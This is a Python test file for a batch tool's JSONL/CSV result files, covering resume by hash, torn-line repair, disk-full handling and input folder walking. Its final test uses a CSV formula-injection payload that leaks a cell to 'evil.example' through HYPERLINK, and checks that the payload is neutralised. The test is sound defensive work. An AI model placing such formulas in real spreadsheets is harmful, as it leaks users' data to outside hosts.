"""Batch result files: one whole line per record, --resume by content hash, torn tails repaired;
and the folder walk that decides what a batch looks at."""

from __future__ import annotations

import csv
import io
import json
import os

import pytest

from mcv.core.batch.inputs import expand
from mcv.core.batch.records import CSV_COLUMNS, Record, ResultFile, record_line
from mcv.errors import UsageError


def records(n: int, *, failed: int = -1) -> list[Record]:
    out = []
    for k in range(n):
        if k == failed:
            out.append(Record(f"p{k}.jpg", f"{k:064x}", error=f"p{k}.jpg: truncated"))
        else:
            out.append(Record(f"p{k}.jpg", f"{k:064x}", answer=f"answer {k}\nwith a second line", model="m"))
    return out


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_resume_reads_back_what_was_answered(tmp_path, fmt):
    path = tmp_path / f"out.{fmt}"
    out = ResultFile(path, fmt, resume=False)
    out.open()
    for record in records(4, failed=2):
        out.write(record)
    out.write(Record("notes.txt", "f" * 64, error="notes.txt: text, not an image", skipped=True))
    out.write(Record("scan.pdf", "e" * 64, page=2, answer="page two"))
    out.close()
    again = ResultFile(path, fmt, resume=True)
    # answered: 0, 1, 3 and page 2 of the PDF; the failure and the skipped file are asked again
    assert again.earlier.done == {(f"{k:064x}", None) for k in (0, 1, 3)} | {("e" * 64, 2)}
    assert again.earlier.records == 6
    assert again.earlier.answers[("e" * 64, 2)]["answer"] == "page two"


def test_csv_is_one_row_per_record_with_the_header_once(tmp_path):
    path = tmp_path / "out.csv"
    out = ResultFile(path, "csv", resume=False)
    out.open()
    out.write(Record("a.jpg", "a" * 64, answer="two\nlines", data={"k": 1}, structured=True,
                     metrics={"prompt_eval_count": 7}, model="m"))  # fmt: skip
    out.close()
    again = ResultFile(path, "csv", resume=True)
    again.open()  # no second header
    again.close()
    rows = list(csv.reader(io.StringIO(path.read_text(), newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    assert rows[1][:8] == ["a.jpg", "", "a" * 64, "two\nlines", '{"k": 1}', "", "", "m"]
    assert rows[1][8] == "7" and len(rows) == 2


def test_an_existing_file_is_never_overwritten_without_resume(tmp_path):
    path = tmp_path / "out.jsonl"
    path.write_text(record_line(records(1)[0]))
    with pytest.raises(UsageError) as info:
        ResultFile(path, "jsonl", resume=False)
    assert "already holds results" in info.value.message and "--resume" in info.value.hint
    assert path.read_text() == record_line(records(1)[0])


@pytest.mark.parametrize("resume", [False, True])
def test_a_folder_as_the_output_is_named_as_such(tmp_path, resume):
    with pytest.raises(UsageError) as info:
        ResultFile(tmp_path, "jsonl", resume=resume)
    assert info.value.message == f"--output {tmp_path} is a folder"  # not "already holds results"


def test_a_torn_last_line_is_dropped_on_resume(tmp_path):
    path = tmp_path / "out.jsonl"
    whole = "".join(record_line(r) for r in records(3))
    path.write_text(whole + '{"path": "p3.jpg", "sha2')  # what a power cut mid-write would leave
    out = ResultFile(path, "jsonl", resume=True)
    assert out.earlier.records == 3 and len(out.earlier.done) == 3
    out.open()
    out.write(records(4)[3])
    out.close()
    lines = path.read_text().splitlines()
    assert [json.loads(line)["path"] for line in lines] == ["p0.jpg", "p1.jpg", "p2.jpg", "p3.jpg"]


def test_a_file_that_is_not_batch_output_is_refused(tmp_path):
    path = tmp_path / "notes.jsonl"
    path.write_text('{"hello": 1}\n')
    with pytest.raises(UsageError) as info:
        ResultFile(path, "jsonl", resume=True)
    assert info.value.message == f"{path}:1: not a batch record"


def test_a_short_write_is_cut_back_off(tmp_path, monkeypatch):
    path = tmp_path / "out.jsonl"
    out = ResultFile(path, "jsonl", resume=False)
    out.open()
    out.write(records(1)[0])
    real_write = os.write
    monkeypatch.setattr(os, "write", lambda fd, data: real_write(fd, data[:10]))  # the disk filled up
    with pytest.raises(UsageError) as info:
        out.write(records(2)[1])
    monkeypatch.undo()
    out.close()
    assert "the disk is full" in info.value.message
    assert path.read_text() == record_line(records(1)[0])


def test_folders_are_walked_sorted_with_our_own_outputs_left_out(tmp_path):
    (tmp_path / "b").mkdir()
    (tmp_path / ".hidden").mkdir()
    for name in ("z.jpg", "a.png", "a.png.txt", "a.xmp", "out.jsonl", "noext", ".DS_Store", "b/c.gif", ".hidden/x.jpg"):
        (tmp_path / name).write_bytes(b"x")
    inputs, unlisted = expand([str(tmp_path)])
    assert [i.label for i in inputs] == [str(tmp_path / n) for n in ("a.png", "noext", "z.jpg", "b/c.gif")]
    assert not any(i.named for i in inputs) and unlisted == []
    # named files and globs are always tried, and a file reached twice counts once
    inputs, _ = expand([str(tmp_path / "a.xmp"), str(tmp_path / "*.jpg"), str(tmp_path / "z.jpg")])
    assert [(os.path.basename(i.path), i.named) for i in inputs] == [("a.xmp", True), ("z.jpg", True)]
    with pytest.raises(UsageError, match="no such file or folder"):
        expand([str(tmp_path / "typo")])
    with pytest.raises(UsageError, match="matches no file"):
        expand([str(tmp_path / "*.heic")])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_read_back(tmp_path, start):
    path = tmp_path / "out.csv"
    out = ResultFile(path, "csv", resume=False)
    out.open()
    hostile = f"{start}HYPERLINK(\"http://evil.example/?\"&A1)"  # text read off an image: anyone may write it
    out.write(Record(f"{start}cmd.jpg", "a" * 64, answer=hostile, data={"k": hostile}, structured=True, model="m"))
    out.close()
    with path.open(newline="") as handle:
        rows = list(csv.reader(handle))
    row = dict(zip(CSV_COLUMNS, rows[1]))
    for column in ("path", "answer"):
        assert row[column].startswith("'" + start)  # shown as text, never run
    again = ResultFile(path, "csv", resume=True)  # --resume takes the ' off again
    (earlier,) = again.earlier.answers.values()
    assert earlier["answer"] == hostile and earlier["path"] == f"{start}cmd.jpg" and earlier["data"] == {"k": hostile}
